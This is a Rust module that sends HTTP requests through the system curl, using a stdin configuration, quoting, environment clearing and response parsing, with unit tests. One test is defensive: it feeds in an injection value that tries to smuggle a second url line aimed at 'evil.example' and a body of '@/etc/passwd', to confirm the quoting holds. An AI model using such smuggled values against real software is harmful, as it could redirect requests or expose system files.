//! Sends a request with the system's curl.
//!
//! The configuration goes to its standard input (`-K -`), so that no URL, header or body is in its arguments, which every
//! user of the machine can see (<https://curl.se/docs/manpage.html#-K>). `-q` comes first: no `~/.curlrc` is read.

use std::ffi::OsString;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use tokio::process::Command;

use super::kinds::{Request, Response};
use super::program::{self, Ended};
use crate::config::url;
use crate::text::{Message, channels as say};

/// Paths of curl: macOS and most Linux distributions, then NixOS and Homebrew on Linux.
const PLACES: [&str; 4] =
    ["/usr/bin/curl", "/bin/curl", "/run/current-system/sw/bin/curl", "/home/linuxbrew/.linuxbrew/bin/curl"];

/// Limits for connecting and for a whole request, in seconds.
const CONNECT_LIMIT: u64 = 8;
const REQUEST_LIMIT: u64 = 15;
/// After this time curl itself is killed.
const LIMIT: Duration = Duration::from_secs(REQUEST_LIMIT + 3);

/// Bytes that are read of a response, headers included, and of curl's error output.
const KEEP: u64 = 64 * 1024;

/// Environment variables that are passed to curl: proxies and certificates (<https://curl.se/docs/manpage.html>,
/// "ENVIRONMENT"). `HOME` is not passed, so that `.netrc` and `.curlrc` are not read.
const KEPT: [&str; 12] = [
    "http_proxy",
    "https_proxy",
    "HTTPS_PROXY",
    "all_proxy",
    "ALL_PROXY",
    "no_proxy",
    "NO_PROXY",
    "CURL_CA_BUNDLE",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "CURL_SSL_BACKEND",
    "NIX_SSL_CERT_FILE",
];

/// Why there is no response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum CurlError {
    /// curl is not installed.
    Missing,
    /// It could not be started.
    NotStarted(String),
    /// It ran too long.
    TimedOut,
    /// It failed, with its exit code and error message.
    Failed(i32, String),
    /// Its output is no HTTP response.
    NoAnswer,
}

/// The curl of this machine.
#[derive(Debug, Clone)]
pub(crate) struct Curl {
    program: Option<PathBuf>,
}

impl Curl {
    /// The program in `GATELIGHT_CURL`, or the first of the known paths that exists.
    pub(crate) fn from_environment() -> Self {
        let given = std::env::var_os("GATELIGHT_CURL").filter(|path| !path.is_empty()).map(PathBuf::from);
        let program = match given {
            Some(path) => Some(path).filter(|path| path.is_absolute() && path.is_file()),
            None => PLACES.map(PathBuf::from).into_iter().find(|path| path.is_file()),
        };
        Self { program }
    }

    /// Sends the request; one attempt.
    pub(crate) async fn send(&self, request: &Request) -> Result<Response, CurlError> {
        let program = self.program.as_deref().ok_or(CurlError::Missing)?;
        let input = configuration(request);
        match program::run(command(program), input.as_bytes(), LIMIT, KEEP).await {
            Err(error) => Err(CurlError::NotStarted(error.to_string())),
            Ok(Ended::TimedOut) => Err(CurlError::TimedOut),
            Ok(Ended::Exited(output)) if output.code() != 0 => {
                let (code, words) = (output.code(), String::from_utf8_lossy(&output.stderr));
                let first = words.lines().next().unwrap_or_default();
                let words = first.strip_prefix(&format!("curl: ({code}) ")).unwrap_or(first);
                Err(CurlError::Failed(code, words.to_owned()))
            }
            Ok(Ended::Exited(output)) => response(&output.stdout).ok_or(CurlError::NoAnswer),
        }
    }
}

fn command(program: &Path) -> Command {
    let mut command = Command::new(program);
    command.args(["-q", "-K", "-"]).env_clear().env("PATH", "/usr/bin:/bin");
    let kept = KEPT.iter().filter_map(|name| Some((*name, std::env::var_os(name)?)));
    command.envs(kept.collect::<Vec<(&str, OsString)>>());
    command
}

/// One option per line. In quotes, a backslash escapes itself, the quote, `t`, `n`, `r` and `v`.
fn configuration(request: &Request) -> String {
    // only the scheme of the URL, also for redirects, which are not followed anyway
    let is_plain = url::parse(&request.url).is_ok_and(|parts| parts.is_plain);
    let mut options = vec![
        ("url", request.url.clone()),
        ("proto", if is_plain { "=http" } else { "=https" }.to_owned()),
        ("max-redirs", "0".to_owned()),
        ("connect-timeout", CONNECT_LIMIT.to_string()),
        ("max-time", REQUEST_LIMIT.to_string()),
        ("max-filesize", KEEP.to_string()),
        ("user-agent", concat!("Gatelight/", env!("CARGO_PKG_VERSION")).to_owned()),
    ];
    if is_plain {
        // a proxy would send it to another machine
        options.push(("noproxy", "*".to_owned()));
    }
    if let Some(authorization) = &request.authorization {
        options.push(("header", format!("Authorization: {authorization}")));
    }
    if let Some(body) = &request.body {
        options.push(("header", "Content-Type: application/json; charset=utf-8".to_owned()));
        // without it, a longer body is announced first, and the interim response would come before the real one
        options.push(("header", "Expect:".to_owned()));
        // not `data`, which reads a file if the text begins with `@`
        options.push(("data-raw", body.to_string()));
    }
    let flags = ["silent", "show-error", "include", "suppress-connect-headers", "globoff"];
    let mut text = flags.map(|flag| format!("{flag}\n")).concat();
    for (name, value) in options {
        let _infallible = writeln!(text, "{name} = \"{}\"", quoted(&value));
    }
    text
}

fn quoted(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 16);
    for c in value.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            // a NUL would end curl's string
            '\0' => {}
            other => out.push(other),
        }
    }
    out
}

/// Parses the output of `include`: status line, headers, an empty line, the body; possibly after interim responses (1xx).
pub(super) fn response(output: &[u8]) -> Option<Response> {
    let end = memchr::memmem::find(output, b"\r\n\r\n")?;
    let head = String::from_utf8_lossy(&output[..end]);
    let mut lines = head.split("\r\n");
    let mut words = lines.next()?.split_ascii_whitespace();
    words.next().filter(|version| version.starts_with("HTTP/"))?;
    let status: u16 = words.next()?.parse().ok()?;
    let rest = &output[end + 4..];
    if (100..=199).contains(&status) {
        return response(rest);
    }
    let header = |wanted: &str| {
        let headers = head.split("\r\n").filter_map(|line| line.split_once(':'));
        headers
            .filter(|(name, _)| name.eq_ignore_ascii_case(wanted))
            .map(|(_, value)| value.trim().to_owned())
            .next()
    };
    // its other form, a date, is rare; the backoff applies then
    let retry_after = header("retry-after").and_then(|seconds| seconds.parse().ok()).map(Duration::from_secs);
    Some(Response { status, retry_after, body: rest.to_vec() })
}

impl CurlError {
    /// The message for users.
    pub(crate) fn message(&self) -> Message {
        match self {
            Self::Missing => Message::new(say::NO_CURL).with("places", PLACES.join(", ")),
            Self::NotStarted(why) => Message::new(say::CURL_NOT_STARTED).with("why", why.as_str()),
            Self::TimedOut => Message::new(say::NO_ANSWER).with("seconds", LIMIT.as_secs().to_string()),
            Self::Failed(28, _) => Message::new(say::NO_ANSWER).with("seconds", REQUEST_LIMIT.to_string()),
            Self::Failed(code, words) => {
                Message::new(say::CURL_FAILED).with("code", *code).with("words", words.as_str())
            }
            Self::NoAnswer => Message::new(say::NO_HTTP),
        }
    }

    /// Whether the network may be gone: the name was not resolved, or no connection was established (exit codes 5 to 7 and
    /// 28 of curl(1)).
    pub(crate) const fn may_be_offline(&self) -> bool {
        matches!(self, Self::TimedOut | Self::Failed(5..=7 | 28, _))
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn nothing_leaves_its_quotes() {
        let request = Request {
            url: "https://h/x?a=b".into(),
            authorization: Some("Bearer t".into()),
            body: Some(json!({"a": "\"\nurl = \"https://evil.example\"\\", "b": "@/etc/passwd"})),
        };
        let text = configuration(&request);
        let urls = text.lines().filter(|line| line.trim_start().starts_with("url")).count();
        assert_eq!(urls, 1, "{text}");
        for line in text.lines() {
            let value = line.split_once(" = ").map_or("\"\"", |(_, value)| value);
            assert!(value.starts_with('"') && value.ends_with('"'), "{line}");
        }
        assert!(text.contains("proto = \"=https\"\n") && text.contains("data-raw = \"{"), "{text}");
        let plain = Request { url: "http://127.0.0.1/x".into(), authorization: None, body: None };
        let text = configuration(&plain);
        assert!(text.contains("proto = \"=http\"") && text.contains("noproxy = \"*\""), "{text}");
        assert!(!text.contains("data"), "{text}");
    }

    #[test]
    fn answers() {
        let parse = |text: &str| response(text.as_bytes());
        let answer = parse(
            "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 429 Too Many\r\nretry-after: 7\r\nA: b\r\n\r\n{}\r\n\r\n",
        );
        let expected =
            Response { status: 429, retry_after: Some(Duration::from_secs(7)), body: b"{}\r\n\r\n".to_vec() };
        assert_eq!(answer, Some(expected));
        assert_eq!(parse("HTTP/2 204 \r\n\r\n").map(|answer| answer.status), Some(204));
        let date = parse("HTTP/1.1 503 x\r\nRetry-After: Wed, 21 Oct 2026 07:28:00 GMT\r\n\r\n").unwrap();
        assert_eq!((date.status, date.retry_after), (503, None));
        for no_answer in ["", "HTTP/1.1 200 OK", "garbage\r\n\r\n", "HTTP/1.1 x\r\n\r\n"] {
            assert_eq!(parse(no_answer), None, "{no_answer:?}");
        }
    }
}
